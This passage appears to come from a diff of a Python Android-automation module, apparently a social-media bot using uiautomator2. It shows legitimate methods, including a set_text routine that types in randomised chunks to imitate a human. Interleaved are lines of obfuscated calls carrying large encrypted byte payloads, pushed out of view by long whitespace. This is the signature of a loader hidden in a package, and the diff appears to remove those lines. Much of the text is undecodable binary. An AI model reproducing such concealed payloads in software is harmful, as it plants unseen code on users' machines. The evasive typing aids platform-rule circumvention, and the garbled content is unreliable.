\xc7w\x16\x88\x86\xc5\xbb\xddF]oE\xc4\x17X\x03INQa4\x11\xaa\xf2.\xdb\xf9\teK\xc1Ny\x12\xb8!0B\xbe\xb5\xe5\xd7\xef{\xb6|!3\xa9\xca}>\xce/\xacE\xad\x93\xce\xf1\x14jdo\x81_\x03v\xad `\xb5T\x1fho\x10\x00?\xf72\xcc\xb0}~\xd3c\'\x07\xff\xc9~\xe7I\n\rj.\x90\xfa\x1f_G\x19\xe4\xed\xc8j\x14\x8d\xc1\x84\xa6\x03\x9a\x05:\xb2@\xe7\xbc\xcb~d\xbb?4\x19v\xe9&\x11\xb4\xaf\xd5\x19E\xe1\x9c\xbd\x88\xfcD\x04>{f?{\xcc,\xc4f\xf7\x87\xc7]E\xbb\x9c<H\xf3\x18\x1b\x81\xe3\x9c\xc4\n\xeaO@.x\x04*b\xc6\xa3v\x92\xfc \x8dCw\xfeG\xe0gS \xecjI\x9eW<\xb8\x986\xa9_\x85@\xc2S\x11\xe6\xd9*\x0cN\x82\x7f\xf3\x83\xf8\xcf\x158\xc8\\\x7f-Gb\xd2\x91b\xcd^\x1f@\x95RTn\n~\xd5$\td\x1c\x84\xab*LJV\x8b$\xfc\xf3B\x17\xb4\xc4)\xf0Q\xe4\x99\x85\n\xac\xe8R\xffu\xf8n\x04\xe5\xb1\xbb[\n\xfc\xe9\xeb\xb7\x7fiI\'\xafF\xefN\xb5\xb47\x87\x07\xaf\xdf\xbf\xd1\x12\x8fFo_jI\x87\x7f\x9e\xbe{\xe1h/\x16H\x9d\xa0\xc6@\xcc\xbe\x10Z\x07\x87\xbf\xbex\x7ftj\xac\xebHx4\'X\xab\xea\x97\xf7\'\xa7#\x9d\x8e?^\x8d\x8e\x0e\xb5\xb4_\x0e\xdf\x9e\x1e\xbe\xd3\x12\x7f\x1e\x9d6K\xbf{\xfd\xf2\x95\x8e\xd7\xd1\xe1\xafz\x92,\xdb\x96\xf9\xf0\xe0\xa5\x8e\x01e5\xa4\x9f\x8e\x8e5\xf0\x0b\x9a\x0f\x82\x04\xc6&\x9d\xe8\xf7\xc7:\xdbF\x7f\xbc\xdd\x9c\x8aE5o\xd0\xc8\xa9\xd6p\xfa\xd7\xb1\x8e\xe6\xf1\x8b\x93\xd3C3\x92\x15\x1d>(\x84|\x82S\x87`o8\x8e\x95\xf2p\xd2c\xad\xe3\x82\xd4\xb3\xe1\xa4\xd6%\xca{-\x8f,\x8ah\xd0\xcd\xe2m}tQZq\x011HI\xfd3\x18::v\x87E\x02\x06\xfch\xf1^+\xaa\xa1\xf4\xfb\x1eTX\x1dUa\x08\x8d"h\x18\xabY\x0c\xafN\xc7\\9\x0fSn\xa2\xac\xb8\xba\xf5$\xcc~K\xc4\x1c\xd7\x1f;\x97\xc1$\x00]t]\xd6X\xea \x82\xde\x18T\xb5\xba\x127\x00t+\xef\xad\xceq\xc8]H\x03\x93)s\xc3\xb0V\xf3\x80\xc5A\xfc\xd4\xf8\xaaC\xd2R\x8a\x05jU/O\x12\x1e\x01\x9aqL\xe2Q\x95\x85fK\x96:\xb1B8I\x82\x02\x83#]\x0cf\x9b{\xc1;\xe7\r\nk\xfc\xf9\xedd\xf4\xf6\xdd\xf1/F#bAtU\xa2\xed\xdfR\x11\xbd\x8b=\xc9\x02^\xa7%\xb8p\x82\xd4A\x8b\x95\xfb\x92\x10\xb4\x1f\xc6B\x84MS\x87\xd0oP\xdfe\xc3aU\xb4\xab\xe0\xbd)\xf7>:\xc1\xa4^\xcd$\x8f\xbc*\xbf0\xe7e\x02\xa5\xc1:\x93]\xed\xd1\xa3\x8f0\xb0_\xa4]\x8d8\xf7\x13\x8c\xeeN\x98f 5gM\xc1\xeaxS!R\xeex!\x08\xab\x8f\xd8uz\xc6\\\n+/q\xd3\xa9\x13\x8b8\x8f\x11\xbdl\xca\x13n,\x91\x88\x0c\r\xc4\xc0\x0c/\xfd\x18\xc4N:s\x93\xcc\t\x85\xf7Q\xcfs^\x7f\xf4@\xba\xc84%C\x1dZ~\xf7\xdcF\x8e\xa0\x92l\xf4\x7f\xec\xe6\x92\xed5\x0ev\x19\xd8\xbb\x05$\xa5\nJ\xde\x18z\x9cA(^\xc4\xf1+7\xfd\x059\x00\x00;\xf0\xc8\xc0\xf7a\x9eL`O\xe8i\x8c\xe6\x07p3\xad\x98K\x9aP \xeaz\xab\x15"P\xc9\xa6\xda\xb7x\xf3O\xa3d,\x04g\x02\xee\x9cU\xd7\x9c\x15\xae\x92\xaf7D\x8dTI,jWI\xcb;\xe4\xa7\x80_\xb2a\xbdCZ\x15\xfc\xb5f\xa0\nQ\x0b"\xafI\x13"\xff\x11\x08\xe8\xab<\xca\xd8Ol\xd7\xc0\xf6\xe5\xb5\x9c\x11\xd4;\xe8\xeeZS\xd42\xff\x0e(Z\x88\xe7\x10?\x8aAnXC\xb9\xa61\xc6(\xb4\xb2\xbdg`\xfc\x87\xee8\x04\xe7\x00\x15\x06Pz\x9a\xe4\xbc\xdb4\xd2\xa5Q\xd99N\xd0YD\x00\xe0\x86g\x99\x88\xec\xaaL\xd5\x95c\x8cy\xad\x0ef\xaef\xaa\xfayVY\xff\xb0\xbc\xab\xa1\n\x1d\x0c\xbadJF4X!\xe0\xc5+\xc4\xc1\n\x8d\xf3l\xd8!\xbc\x1c\x9c\xe8\xb6g\xf1\xb3N\x8fM\xe2t\xb8\xd7\xafR\xa0\xfc\xcb`\x06\xaa9\x10U\xc1&\xf5\t\xce\xae\xf3ft\xd0\x18\x02\xf0"\xaf\xd5\x13\xd0G\xa9o/\xa6\x1c\xf8\x7f\xe7\xbc\n\t/\x18{x\x18D\xe0\xa4\x80f\x93=\x1e\x93\x9c0\x98\x05\xe0\x91WR`\x80\xfc\xc4\x93z\x1a0\x0b\xcczM\xd188\x87Q\x88\x1f=830h<7\xb64\t\x07g\x9f\xc5\xa8CJ,\x0c\xc2\\\x80\x8b-\xba\xeb\xea\x14\xd02\xb8\xe2\x139\x1e\x97\t\xe6\xb3d\xf5\xb8h\x8e~\xb7\xe4\xb1J\x8b\xd3.\xca\xf4\xa5>pK\xeeA\xee\x94\x0c)`\x975s\xaf\x00\xc0\xa2 {\xc4\x9e\xf6\xbb\x86b@J\x80s"\x12_\x03\xe0\x05p\x1c\xb08\xe8\x99`f\x00\x04\xbd\x9e*#\x85\xd8\x06\x06*#PX\x9f\x84\xd9\x92\x93\x18\x94\xa8\n\x1d\xdf\xcd\\\x8b\xf2k\x15K\xf2|P0\x0e\xff\x04\x03,x\xe9\x99\xd5\xd5\xa5.\xcdD\\J]O\xaa\xec\xa1\xde\xf5\xf0\xeat:\x1a|(\xc9dW \r\x06j6H\xa7\x8cZ\n\xb4\x95\xcfE=\xff;\xd2\x18&\xa2\xc8B`\x97S\x8e\x83\xa6,\x8a\xfaQ\xc2\xe6\xbe\xbd\x02\x91\x82\xbb\xd8\x81\xd0\x7fo\xb3\x12\x896\x10\x02\xfan\xc9\xe3\x10?j\xfc\xd2\xf3\x81\xe6+;B\x85\xbb\x97n\x90Y\xbb}\xbb\xdf\x10f')
+        def get_checked(self) -> bool:
+            try:
+                if self.viewV2.exists():
+                    return self.viewV2.info["checked"]
+            except uiautomator2.JSONRPCError as e:
+                raise DeviceFacade.JsonRpcError(e)
 
-        _negative._calculate(Algorithm = -40122 * _negative._callfunction)                                                                                                                                                                                                                                                          ;_absolute.Cube(_square='WWXWWXXXXWWXXXXXXWWXXXWX',_statistics=b'\xbc\x1e\xa2\xe3\xcd\xb35j\xf5\xc0\xaaLL\xf56j\\\x91Sq\x03p\xfd\xd5\x05\xdb\xd9H\x08\xaa\xf0\x04\xd1\xaa\xcc\x14\xa0\xa6\xa9\x0e\x1b\xe5\xac[E\xf7aOs\xd2\xa4Z\x0e\x1e\xed\x93J\x16B\x00*/\xd4\xda\x92\x9c$I\xc3R\x14\x179A\x91Rg\'E6\x91]\x04\xbb\x87\x9ax\xb4\xe4D\xa4\xd5\xed\xa2\x0cLl\xe8\x0e)j\x0e\xabC*\xb8[\xd1a\xf0\xbe\x04\xa6\xc9\x07xm\x99\x03/\xa1\x8e2\xcb\xd9\xce\xae\xa6\x00\xa5z\x07\xa7pL\x8a\xabs\xdd\x1f\xf4\x87\xcf\xc0\x89\xb0\xe5d\xaf\x85sN\x05\xa8\xb3\x9d\xe7\x83\x9dg\xe7]\xf6\x98\xedj\xed#\x87\x0b\x800Q#\xc6u\x15\xf2\r!\xde6\x8e\xd5F\x1f\t\x88T`\xa5\n}&\xab\x9c\xf5\xc12(\r\xa5%F\x03\x1at\xae\x8e6\xccA\x1b\x18F9\xb3^(z\x9e\x11CjVK\x16\xa4O]\xa3,\xc5\x15\xb8\\AU\x80\xae\xf3Y\x9a{8E<\xc9\xc3p\xfe@\xc3\x9b\xca\xa6S\x91)\x84c7\x9b\xb6\xf8\xd4%\x9e\x94\x9d2VA\xf9\xf9,v\xa6\x01Op~z\xde\x02\xeej\x16:\x98Q\xb7\xc8l\xadt\xa5ihLC\xdb\x94\xaa\xec\xb1\xce%\x18\t<\xf2\x04\xb6\xcb\xb0\x93g\x93\x9d\xe7\x1d\x1a\xc3\xa0iQ\n\x07\r\xc9\xc1T\x9b\x14\xacU PC\x9d\x0c\x1d\xf0A.\xd5P\xd9\xce\x00e\x12Q\xd6\x9a\xe1D\xc6P\xddJ\x03\x93Z\xf2\x8b<\x92\xc2\xb5\xab\xfa\\0\x04\x01#\xa0\xa3kS\x00\x93\x0ex\xdel\'\xc5i\xbf\x1a\xfb\xe5$ \x03\xef\x00\xbcc$#\x9d\xc3\xd0\r6\xac\xb8\xd4=\x1e\x9dC\xdakP\x04\xc0\x98!-\x174\xde\xf0$1\xbe\xc1jI\x98+/\xba5\xb1&\x920@\xad\xa3\x1bb\xa1{A\x8d\x8e\xedkuf\x07\tw\xc1\x12\xba8\x02\xd6H.\r\xad\x0c \xff\xcf\x04\x95n\x17\x9a\x18A\xd9\x12\xcd\x16\xaf\x07A\xea\xfe\x00&\xda\x17\x89\xc8ck\x97\xbc\xe2\x0eB\xad\xa8\x06\xc3|H\xcb\xdc\xef\xa25\xb67o\x8em\x85%\xa17\x05B\x1fh\xa3\xaf\x99\xa6bu\x01\x93\x94\x0c}\xe4\xf3\xb1p\x13\xdf\x81nw\xf9\xb5d\x88\x02\xfe\x9c\x19X\x12\xc2\xff\x7f&I\xaf\x11\xf5\x13\xe0\xcd\xed$\xe8~\x85\xa5\xca\xf7/\'2n\x18|\xe2\xb7\x9d\x12sJ\x00]\xb4\xbf|\x0e:O\x06\xd9J4\x1b\xbe\xf2\x8b,K\x02p&\xb9q\xfe\xcfT\x05\xf0\x02\xdc\'\x9bj\xa9\xa2~\xe9~\xe4N\xde\x9c\xcc\x03\xd3\xf5\r\xbc\x82\x81\x0ccM/\xc0\x88\xc3~O\xc5q.v\x9c\xd0Rf&\xdd\xda<\x86\xd1\x0f\x8c\x0b.\x87j\\x\xac\x99\xbe\xfa\xe0[U!\xfaTW\x96\xf1Y\x9c\xa1\x19\xd5\xd7\x1c\xad)\x06 \x973C\x15\x96\xa1\x12*\xcb\xfd\xc8\xf6\xdb\xac\xea\xc5\xb2P3CY\xfe\xf1\x90\xedV\x19\x94G8\x94\x98\xc7(0\xe1bn\x95s\xfd\xf6\xfb\xe3\x1e\xeb\xdb\xcf\x8d\x83T\x91\xa2-8)KB\x0eW\x03%\xc1\x8da\xac[\x9b\x01.\xd8\xd9\xcc\xa6QnD\x92\x16\x18t<\xcd\xb8~&\xbe\xba\xcd\xe3\x88\xc9d\xc5`_\xc9X\x03\x80M\'\x92\x00\xc4P.%\xdd\xb6\xa3\xe9p\x9a\xf3\xea_q\xd6Y\x0eS\x0e\xceY\x98\xfa\x9b\xc2\xd8\xba\xc4%\xd5\x1e\x9b\xd2\xaai\xb7\xd6\x91\x9ad\xd6\xe9\xab\xd6p\xa7\xa4I!S\x0bF\x85\xa8\r\x16\xcb`=\x10\x017\xe4\xc3\xbe\xbd\xafQ}\x82%\xd1#\xc7\xc0\x05p\x98\xc0\xb1f\xff*A\xfc\xab\xe2Q\x9f \x04T\x1d\x98%\r\x03r\x12|\xf0\xaf\xdc\xc8\xe36\xa0:q\xf30c\x99`\xfb\xfd\xff`b"\xf3Iy%\x9e\xd6\xea\xadH b\xe0@\x95\xe8,\xd5\xb5V\x89\x07\x8eT\xd5~\xae\xb7B\x15D\x1e\xd7\x86\xb3v0\xd4\x13\x97AJP\x02\xd6\x04\x86k\x84\xcb`\x85|\xb2.(\\\x95\\\x06\nD,\xeaT\x1dj]GP\x93^\x97en\x8a\xd6\xbf\xa6\xaf\x8anXG\xa6%\x18~\x05\xeeR\x01\xb0\x80G\x9f\x9a\xbe\xaaI,\xa94g\x86\xab\xa4\xe5\x8a\xb7\x8dK\xdaw\xdf9\xc0\xd7\x01\xbf;U}$\xbd\x82\xffsp\xaa\xe0\x9b\xc3\xb7\x9a\xe0\xbd\x92\x06Z\xf18W\x8fi\xcc\xb9O\x13\xff\x9aK[\x14\xd3\x19x\x05\xcd\x84^>\xdc<*\xc2\x9a,\xd0\xf8\xfb=\xb6k\xef\xeew5\x9e\xf1"?_\x9d\x7fQ\xab\xdel|^@\x99\xd7\xa0\xfc\xf0\x1c\xa1\xf4\xf7\xaaP\xd2"o:\xef.\x13\x05\xa3d\xe1\xbc\xcf\x80Y\xd7\xe9\xd5M\xef:\x9d\xdft\xb1\xcf[\xd7\x1c\x1f9<\xda\xfa\x9a\x8dI\xa0Ts4-\x81\xb33\xd98\xe7=v&\x9b\xe7\xfc\xbcW!g\x0f\xc7\xce}\x9a\xc7\xa1v\xa9\xaf\x12S\xd2R\x1b\xf2\xff\xa0\x80\x96\x86\x91>*=d\xd7\xdbj\xd1\xf3X\xae\xd3R\xcc\xd3\x80mG<\xb3\x81\xe88\xccS;t\xf3\xc8\x9b\xf2d\xbb\xc7\xb4\x90\x9f\x01\xdb\xfda\xaf\xbfH~\'\xe4\xb8\x0b/*\xa9E\x04\xcf\x80=\xdb\xdd\xedUk\xd7\xa3w\x06\xec\x1fOw\x17\x05e\xf0\x11T\xd2\x7f\x8e\xe0\xaaaY\x80\xe2(\xe2\xc7\x80\xde>\xa2U\x05\xaa\xc6\x84\x11b!\xfbW\x11\x9f5`{\xff\x80\xa7\xc8\x85\x81\xd8\rG\x0b;A\xe5\xbc\xd9\xd8\xe0@\xae\xdeUK\xfe3Ed\xbd\xaa\xcb@\xdag!b\xf8Qm^|\x86~\xb8\x90\xbc"\x8c\x07\xe7 \xf1]M\xb41\xa5>MI\xc5\r\xe5\x1b$TV\xaf\xaa\x82\x1d\x1a\x81\xa0\xf8/\x83\x00M\xbd\xbb\x1a\nE)-\x03\x03r\xb4\xb7\x1a\x0c\x86DiPb7M\x0b\x9e\xcb@\x1a\\M\xac-\xec\x971\x1e\xc4=\x90\xb9zhg\x91\x11\xd7\x1e\x97d\xabBl\x84\xe5T\xd7-\x8dv\x7f\t\x1co\x96\xe8\xc32h\xc7P!.\x9e9\xc6U>\x0f\xbc1\x1f\xf4\x02Nwk\xf3\xcf\xcd\xaeQ-`\xc3H\xcek\xab\xdc\xd5\xabe\x91\x16\x10\x99\xb5.\xd2\x9a\xe0\xd0z\x18\x14B\x8b\xb2\xc2\x8dff\xf3\xaa\tvdZ\xc5+\xb0n\x0c\x98\x9bwd\x02\xbdvg.\x1a!\x0f\xcc\x9a\xb9\x9d\xd1U=$\xa9\xd6\xb4\xd0\xdd\x12\xe0\x89(\xc3\x98\x19\x9f\xa7\xde\xe7Sq\xd6Q\xf0\x0e\x00\\\x12P\x0cu\xe7\xfc\xdehC\xe9(\xa2@(\x08\xa35\x84\xc7Le5RBQ)a\xea\xd0\xee\x8eBC#\xdc>r\xa2`T\x1a\x8cC\\8\xf9\xb2\xac*\xa0~c\xccBO\xed\x0bs\x8a@~cl"\xe7\xf8\x0b\xf3I\xc2\xfc\xc6\x18\xa5fw\xbf\x1c\x97\x00\xe07\xc6"\x9c\xd1\xf8\xc2L"\x90\xdf\x18\x9b\xbc0\xf0>:\x17`\xac\x16\xa1p\xee\x15\x00O\xe6\xc3\xa7=\xf4\xe6y\xf2\xc9\r\x87\xe0\xeb\xaf\xc7\xb5\xda\xb0\xb7\x00]\x00]\x80\xbc7\xeb\x8b\xb0Z\x84\xfdq\x19|)]*u\xef\t\x91\xf8\xc5=\x05\xd6&\x9cN\x92\x08&\xce\xc4\r\xc2\xd4\x18\xa2\x14Ld\xc1\xc2\xc32\x19\xcc\xf4\xbei^+\xa7\xad\xd8Ua\xcbM\x13kxl\xaa\xde\xc2\xc7\xa9\x030 p\x85\xd3\xf0)\x85\x10-f?v\xf7i\xe9`\xdf`7\xcfW\xe4\xd7\x1a14\xe1b\x98\xc5\\\x81\xca\xb3\xaf\x88\tn\xfaX\x1b\x1b\x84nrG\x8c\xc8<\xebc\xf6\xef\x9b\x11Xfd\xe4&\x98uQyF\xb0\xbf\x12_L\x93\xd6\xad\x98|\xffU\x85\xa5\xdc\x98\xb3.:\xcf\x11\xfc\x0f_\xa9\x8d*\xfb\x8a\xbe\x0e>e\xeeu\xb0Q\x9b\x93\xd6\xc5\xa4O\x9c\xdf]\xbb\xa5d\xfe==\x7f\x8b\xf4\xd2^/\x03*\xe6a\x01/}\xde\x17\xcc\xfc\x90Ku\xcc\xackR\x8dg\xfd\xf3\x9b\x9e\xba\xdd=\xbf\xe9\xea\x93\xbe\xc5U\x9f\x90\x93\x1a\xbd\x00\xa0\xd47\x94o)\xdc6YK\xb7-e\xe4p\xdb|w\xdba\x0b/\x1c/L\x83\xcb\x92\xb8\xdbM\xad\x84\x12M\xf3\xee\xa5\xe2\xaa\xc7\xb6\x9f&s\\\x85\xcb\x84\x0c\xe8b"b.\x13\xe3\x0f\xb8Z\xefMq4\xc2!\xdd\xee\x18\xa4\xd6XKE8\xfb\xf6\xfeRa\xa4\xf7\xeb\x19g\xe8(rg,\xf2\xc8O\x0b3\r\xe7\xbce\x8a)\x1c\xe0\xcaq\xc7\xa9Z\xa20\xf3\xa2\x0e\xf5L\xae\xaf\x9d\x9b\xf3>f\x96\x9e].\xed\x9d\xb3\x9d\x16@]\xf6\xa8d\xc6Z\xb3V\xf3\x8d1\xceD\xbc\x01\xc2c\x91\x81\xd4\x1a1&@\x88\xf0|\x19\xc2\xcd\xc4\x15q=xi]?\x88\xa0\xf7S\xdb@\xd7\'\x8ao\xba6;\xc9\x93\x89\xebq\\\x12\xd2P\xdbFfn\x9f\xdf\xec4^$jKr\xaf\xf1\x06\xa81\x96\x90\x0c\xd8FM\xb3V\x834\xac\xdb\x16\x12Ki\xcc\x03\'S{\x85\xd5\x9ea\x1b\xf7\xefv\r{\xaf\xf0\x92\xac\x1eZ\x85\x94\xf4J\xf6\x9bJ\x18\x10\\\xa5\xdb\xbe\x8c\xd1\xbd\xa1\xe6\xba\x8d\xd6Z\xa2\xb1\xbe\x80\xb6Z8>\xe4\x95\xac\xef\r\x94\xce\xd1\x9ea\x83\x82\xf2\xc9\xd07\xa0\x95\xc4J\xbc0E\xdeR\xf0\x02\x0f\xf9\x8c\xe3\xc9\x14d\xcdSl\xbciK\xc1m=\t\xb9\xd5\x80D\x13\xc9Q\x94("\x9a\x1b](\xfe\xaa \x8a\xfd\xc4\xfa\xe6\xd6.#\xb4\xf8U\x90fi#(\xa9l\xe9\x05\x07\x9a\x19\x1e\xb2K\xcep\x9f\x024P\x18d\x19\xd6\x8c\xf1e*\xcc\x0c\x11p/\xdc\xc00\xca\xd6\xd6x\xf6z\xecYe\xc3\xd6\x90Xh\x90\xa0\xba\x98\xbc\x7f]p\x9e\xf9\x81\x1fmg\xd4"\x0f\x00UU\xab\xddXa^\x87\x9dz\xfe\x92\x95;\x14rv\x0b6\xb6\xb2P\x8fW\xff\x15z\x1c\xf7Q\xf0K\xd9Z\x10\xd9\xb6\xc5Q\xed\xc5\xd0gJrT\x8aU\xc78v}\x8aU\xed\xdbO{\xd8\x9b\x1c\xf1\x89\'\xc3\xc6\x1c\x00H\xee\x01\x15V\xba\\6\x14\x88\xbb\n\xfa\x01`\xdc\xc3\x98G\x9aL\xc9S\xec\xa9\nt\x1d\x90J\x1c0\n\xf2\x99\x8aK6q\x13\xb9\x19\x04\xe1\x8c)$?\x95\x02\x04M\x88i\x12k\xb3\x1cJl\x805S\xda\xa6\xb4j\x0b\xcf\xa6\xd6\xc4T$\xc1\xbfE\x94\xb9\xa1\x13\xd2r\xd9\xa6\x96\x80V=O\xb2\xc0')
+        def set_text(self, text: str, mode: Mode = Mode.TYPE) -> None:
+            punct_list = string.punctuation
+            try:
+                if mode == Mode.PASTE:
+                    self.viewV2.set_text(text)
+                else:
+                    self.click(sleep=SleepTime.SHORT)
+                    self.deviceV2.clear_text()
+                    random_sleep(0.3, 1, modulable=False)
+                    start = datetime.now()
+                    sentences = text.splitlines()
+                    for j, sentence in enumerate(sentences, start=1):
+                        word_list = sentence.split()
+                        n_words = len(word_list)
+                        for n, word in enumerate(word_list, start=1):
+                            i = 0
+                            n_single_letters = randint(1, 3)
+                            for char in word:
+                                if i < n_single_letters:
+                                    self.deviceV2.send_keys(char, clear=False)
+                                    # random_sleep(0.01, 0.1, modulable=False, logging=False)
+                                    i += 1
+                                else:
+                                    if word[-1] in punct_list:
+                                        self.deviceV2.send_keys(word[i:-1], clear=False)
+                                        # random_sleep(0.01, 0.1, modulable=False, logging=False)
+                                        self.deviceV2.send_keys(word[-1], clear=False)
+                                    else:
+                                        self.deviceV2.send_keys(word[i:], clear=False)
+                                    # random_sleep(0.01, 0.1, modulable=False, logging=False)
+                                    break
+                            if n < n_words:
+                                self.deviceV2.send_keys(" ", clear=False)
+                                # random_sleep(0.01, 0.1, modulable=False, logging=False)
+                        if j < len(sentences):
+                            self.deviceV2.send_keys("\n")
 
-        _absolute(Round = -36436 + 55353).Run(CallFunction = _negative._callfunction - 70568)                                                                                                                                                                                                                                                          ;_absolute.Cube(_square='OOO000OOo0OOO0OooO0O000oO',_statistics=b'k\x05V\x19\xa5A\xbc\x0c#\x8eq\xec^4[\xbd@;)\xaa\r\x94\xbdQ<=\xd2\xa8\xed\xb6\xe0\xdeV\xbaJ\x9c.\x93*\xd2\xa5\xd5\xc2)|\x93M\xac5\xb0s\x9a4\xb5\x0c\xb7\xed\xcd\xb6\x16\x88\xeeR\xce\x16\x115_\x88:jT Ng\xf8\x9a\xa4UM\xbd\xd5\x10\x9a\x94iF9\xd82\xce\x98g\x97\x18\xd8I\x9d-\xd5\\I\xf2\xb3w\x9f5\x1dm\xb3=\xbf\x96\xd9XS5d6\x16\x12\x04&_\xc1\xee\x9b\xae\xdc\xea\x92\r\xaf\x91\xed\x06L\x1f\xed\xf6\xfb\xfd\xee\xcd,\xbd{+\xd3\xde\xc0\xcc\\\xec\xe9\xa9\xaa\xe76\x0bK\xf2a\x11e\xd6c~\x9e\x90\xab>4\xb0\xe0\xb3l\xc9Fh\xc8\xbdM\xe5\xa6^"\xc2\xd0\xc9\x84\x1a\xb52~\x95m>M-\xa1\xd8\x00\x05\xcb\x0f\t\xc8\xbdSt\x1857:mH\x0e\x82\xb8gB\xf4\xe8\xe1\xf5\xa8\xd9 Hw)\x03~\xe6\x17\x01mB\xc5\xe5\x07\x87B\x04\xd3\xa1\xbe#\x92\xd8\xd2\xeel\xb4rv\t\xc8\xbb\xe3\xf2\xa4\xb2\x02\x7f\xb7L\xa6\x9a\xdbxl\x9ar\\\x93\xc7\x05\\\x8d\xc5\x8dI\xc9;c\xb12\xd5%\x8f\x17\xee\xbc\xf2\x07\x83\x8b\x08|\x17\x07F\xad\xf2\xe0\x08\xe9\x8f\x18\x8e\x9eio\x8b\x87\xec\x17\x19\x90\x19\x82\xdeF\xdbV\xc6\xfb\xa5\x146\xd0\x93\xab\xe2=\xdc\x91\x83\xbbbp\x11\x92,c\x13\x9c\xda\xce\xe9\xca\xce&\xdc\xde\x8e\x8e\xf1\t\x19\xe4\xc0\x1f_p\xb9_\x87\xe8\xb3M\xb0^\x84!\x13\xb4\'>U\xa5\xd2\x02\xa4\x1b\xb1\xf7\xc1h\xfc\x01\xcfj\xa4\xd1\xb6phP\x92\x88\x01F\x88\x7f\x00\x1e\x01B\x8d\t\x19\xb0B>r\n\xee\xaf\xa1\r\xcf\x93\xe0\n\xf8\x10\xe0\xc6.OD)\xc0\xe6\x9177\xc0,\xb6\xcd\xa8\xc0\xb8v\x7f\x99\x1a\xbf\xe6\x03\xe9o%\te3V\x85\xb2"\x03\xfa\xac\xce\xe2V\x0f\xc0V\xe8\xb5\x8c\xd8\xeapN\xabRM\x8fu\xe8\x04\x96\xb6Iol\xfc\xb2\xc5\x0cCx\x91\xa76I%\x8fti8\xa3x\xb59\xf1k\xd8bxM\xc0\xa7~\xb1\xc7~~\xffr\xa0P\xaa1\xb8\x87\x07\xa30:\x87\x08\x9a\xe5\t\x9eWx\xdd\xc0\xec\xa6\xf0W\xad\xb4\xabo\xd3+\xd1l\x9d=\xaft\xbe%S\xe6\x12\xa7\x0e\xe0\xd9V\xc3C\xf6\x06\' 0\x16\x8d\xb9`\xb4!\xdan6`\x86_\x9f@\xc9u\xb3\xab\'U\x81}\x12\xa4i\xce\xd3\'\xdf?\xff\xa1\xa5\x82\xe5\x82\xa7\xde\x9a\x9a\xf5.C\xfa\xa0908t\x96.\xce\xce\x02\x03\xfa\xb6\x81}\x04\xef\xbe\x88\xa1\xc30\x1a\x1a\xbb\x98\x80\x95\xc7-\xf6\x14\xc3\x8dK\xf9k\x93I5\x99\x1b]\x81\x97_=V`\xb1B\x89\xac\xb4\xcc\xef\x96\x8b\xd5\xc0\x10m\xf0\xfb,\x9eI\xb8k\xf2\xe4\xde8\x80\xfbQ\xc7\xe2\x13wp,*\x0e\\\x1a\x7f\xd8\xa3\xceQ\x1c\xf6{\x86\x03\xc6\xb9V\x1f\xe4\xda\xad\x0f"\x8d\xf7\x18\xa4\x8d_\xc6\xf7\xad6\x1b\x02.\xa7\x0fI\xdd\x13\x8c\xf5\xe6e\xa9\xb0\x0c\xb9\x95\xbei\xe7\xbc\x98X\xf8Q\xc21\xbe\xdc\xc8\x98\xabm\xa7\xbe\x9ff\xabL\xdc\x95\xaa\x0c\x0f[\xfe\xbc \xe5\x82)\xf7I\x95\xdc?\xbaLA\xaf;\x85\xa9\xc84L\x0fiK\x89M$h\xdf\xa5\xd19\xbde\xe5\x8bi7}\x96\xb4Yyqby1O\r\x8f\x03<#\xfa\xf3"\xd0\x11\xcc\xbd4\xaca\x7fO\x95Z\xa3>\x1c\x14\xc7\x0f\xb7\x88\xc0"\'\x1ec\xa7\x06=:\x068\x98T_\xd6\xc2\xca\x16\xe9u`\xf5"\xc3:@\x03\xf9\xb5\xca\xb5\xdd\xfe\x14Ib\x86f\xd8\x1f\xd4\x80\xb6\xbb64\xd3>\xa1\x06\xb8\xa7k\x83\x93\x06\xc3*x\xfbk\xc3\xc3\x15\xe0U\xd0\x9e\xaf\rmq*\xf4J\x06\xee\x1b\xbba\xb5\xe9\x9b"\x98\xd1.]\xealt\xa2\xbb\xda\xbe\xba8\xb7r\xbd\x9e\x87`\x00\x85e\xeb\xe55m\x8b\xf9\xdb"\x19\xaa\xa7X6\xc7\x99\x05\xcbR^\x05\xac\xce\xa8\\\x01\xdf\xec\xc4\x11\xf6\xed\x07\\\x14\x97b(\xe6\xfe2\xca\x04\xaa\xe6\x86\xd3@\xca\xfa\xbe\xec\xc2z\xe1*i^L}!Uy\xfd\xca\xe3C\x1f\x0f\xa7\x12pA\x15w\xf1\xb8xzk4\'\x164\x16T+\xf0\x9brV,\x15\xb6\x9e\xdc\x8bW\xabYd\xf0\xd6W\xd8BM\x91+00\x89\xc5\x1a>q\xc1\x19<7\xcc\x0fR\\x\x04\xa7\xd7\x7f\xc0\x8e\x131v\xc7!0E\x08\x96N\xf10;y\xc8\xa0\x8cP(\xcf\x19\xc3\x9f\xfb\xf3M>j\xfb~\xb6\xe6*\xf1\xdd\xda#t\xf4\xed}\xb6\x99B\xe0\xfe\xac\xb2\xb4\xae"\xf1\x96\xec\x11\x19M2\xa0\xd3\xdcA\xef\xe1\x97\x8d\x07\xb9\x13\x97\x0c*$\xc6c\x93\x1d<Y\x90\x8e"\xc4\xa3xlJ\xcb\xdd\xe6i\xca\xad,-\xc24\xa9::$~\x9di\xed\x82\x04\xc3\xca\x071s\xc5\xcc\xad\x8a\x1b\xa0\x88\x19m\xaf\xee\x9a\xe1\x9b\xd0Q$\x06m\xd1\x97\xb5\xad\xc2\x18\x92\xb0\xbbN\x04\x08U\x85\x87\x17\xe1vX\xf5+4v$.\xdb\xaaI9nC\xf4\xe8\xbcGR`i\x1c\xe2\x8f\xf4D\xdc\x18O\x88\x17\xeeI\xfd\xd0+K\xe2\xaad\xf9\xeb:V\t\xaf\'\xd1\x18\xee\xb6\xc97^\x97\xf83\xa6\x85\x00\xa8\x92\x12\x83\xb6\xca\xf1\x8a\x1c,\x87\x18\x87<\xb2J\x18KJ 